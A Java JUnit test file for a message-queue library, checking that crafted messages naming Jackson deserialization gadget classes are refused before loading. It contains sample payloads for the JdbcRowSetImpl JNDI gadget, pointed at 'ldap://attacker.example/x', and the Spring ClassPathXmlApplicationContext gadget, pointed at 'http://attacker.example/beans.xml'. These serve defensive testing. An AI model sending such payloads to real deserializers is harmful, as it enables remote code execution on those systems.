package io.cq.core.message;

import com.fasterxml.jackson.annotation.JsonTypeInfo;
import io.cq.core.MappedQueue;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * A document may name a class only where the parameter type asks for it, and then only a class reachable from
 * the handler's parameter types. Crafted excerpts naming well-known Jackson gadget classes are refused.
 */
class GadgetRefusalTest {
    @TempDir
    Path dir;

    /** Polymorphic by class name: the pattern that gadget chains exploit when nothing restricts it. */
    @JsonTypeInfo(use = JsonTypeInfo.Id.CLASS)
    public sealed interface Payment permits Card, Cash {
    }

    public record Card(String number) implements Payment {
    }

    public record Cash(long cents) implements Payment {
    }

    public interface Payments {
        void pay(Payment payment);

        void note(Object anything);
    }

    /** A card, two payments naming gadget types, a note naming one as plain data, and cash. */
    private static void appendPaymentsAndGadgets(MappedQueue queue) {
        Payments writer = Messages.methodWriter(queue.acquireAppender(), Payments.class);
        writer.pay(new Card("4111"));
        CraftedMessages.append(queue, "pay", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl",
                "dataSourceName", "ldap://attacker.example/x", "autoCommit", true));
        CraftedMessages.append(queue, "pay",
                Map.of("@class", "org.springframework.context.support.ClassPathXmlApplicationContext",
                "configLocation", "http://attacker.example/beans.xml"));
        // With no @JsonTypeInfo on the parameter, a type name in the data is plain data.
        CraftedMessages.append(queue, "note", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl"));
        writer.pay(new Cash(250));
    }

    private static Payments collectInto(List<Object> seen) {
        return new Payments() {
            @Override
            public void pay(Payment payment) {
                seen.add(payment);
            }

            @Override
            public void note(Object anything) {
                seen.add(anything);
            }
        };
    }

    @Test
    void shouldRefuseGadgetTypesNamedInADocument() {
        try (MappedQueue queue = MappedQueue.builder(dir).build()) {
            appendPaymentsAndGadgets(queue);

            MethodReader reader = Messages.methodReader(queue.createTailer(), collectInto(new ArrayList<>()));
            assertThat(reader.readOne()).isTrue();
            assertThatThrownBy(reader::readOne)
                    .isInstanceOf(MessageDecodingException.class)
                    .hasMessageContaining("(method pay)")
                    .hasMessageContaining("type com.sun.rowset.JdbcRowSetImpl is not allowed here");
            assertThatThrownBy(reader::readOne)
                    .isInstanceOf(MessageDecodingException.class)
                    .hasMessageContaining("type org.springframework.context.support.ClassPathXmlApplicationContext is "
                    + "not allowed here");
        }
    }

    @Test
    void shouldKeepReadingAfterRefusingGadgetTypes() {
        List<Object> seen = new ArrayList<>();
        try (MappedQueue queue = MappedQueue.builder(dir).build()) {
            appendPaymentsAndGadgets(queue);

            MethodReader reader = Messages.methodReader(queue.createTailer(), collectInto(seen));
            assertThat(reader.readOne()).isTrue();
            assertThatThrownBy(reader::readOne).isInstanceOf(MessageDecodingException.class);
            assertThatThrownBy(reader::readOne).isInstanceOf(MessageDecodingException.class);
            assertThat(reader.readOne()).isTrue();
            assertThat(reader.readOne()).isTrue();
            assertThat(reader.readOne()).isFalse();
        }
        assertThat(seen)
                .containsExactly(new Card("4111"), Map.of("@class", "com.sun.rowset.JdbcRowSetImpl"), new Cash(250));
    }

    public static final class Unlisted implements Payment0 {
        public String value;
    }

    @JsonTypeInfo(use = JsonTypeInfo.Id.CLASS)
    public interface Payment0 {
    }

    public interface OpenPayments {
        void pay(Payment0 payment);
    }

    @Test
    void shouldInstantiateASubtypeFoundOnlyAtRunTimeOnlyWhenTheUserAllowsIt() {
        List<Payment0> seen = new ArrayList<>();
        try (MappedQueue queue = MappedQueue.builder(dir).build()) {
            Unlisted value = new Unlisted();
            value.value = "v";
            Messages.methodWriter(queue.acquireAppender(), OpenPayments.class).pay(value);

            OpenPayments handler = seen::add;
            assertThatThrownBy(() -> Messages.methodReader(queue.createTailer(), handler).readOne())
                    .isInstanceOf(MessageDecodingException.class)
                    .hasMessageContaining("type " + Unlisted.class.getName() + " is not allowed here");
            assertThat(Messages.methodReaderBuilder(queue.createTailer()).handlers(handler).allowTypes(Unlisted.class)
                    .build()
                    .readOne()).isTrue();
        }
        assertThat(seen).singleElement().isInstanceOf(Unlisted.class);
    }

    /** Stands for a gadget on the class path: loading (and so initialising) it is what must not happen. */
    public static final class Tripwire {
        static {
            System.setProperty("cq.test.tripwire", "loaded");
        }
    }

    @Test
    void shouldRefuseATypeNamedAsATypeParameterBeforeLoadingIt() {
        System.clearProperty("cq.test.tripwire");
        List<Object> seen = new ArrayList<>();
        Payments handler = new Payments() {
            @Override
            public void pay(Payment payment) {
                seen.add(payment);
            }

            @Override
            public void note(Object anything) {
                seen.add(anything);
            }
        };
        try (MappedQueue queue = MappedQueue.builder(dir).build()) {
            String genericId = Card.class.getName() + "<" + Tripwire.class.getName() + ">";
            CraftedMessages.append(queue, "pay", Map.of("@class", genericId, "number", "4111"));
            MethodReader reader = Messages.methodReader(queue.createTailer(), handler);
            assertThatThrownBy(reader::readOne).isInstanceOf(MessageDecodingException.class)
                    .hasMessageContaining(Tripwire.class.getName()).hasMessageContaining("not allowed here");
        }
        assertThat(System.getProperty("cq.test.tripwire")).as("the named class was loaded").isNull();
        assertThat(seen).isEmpty();
    }
}
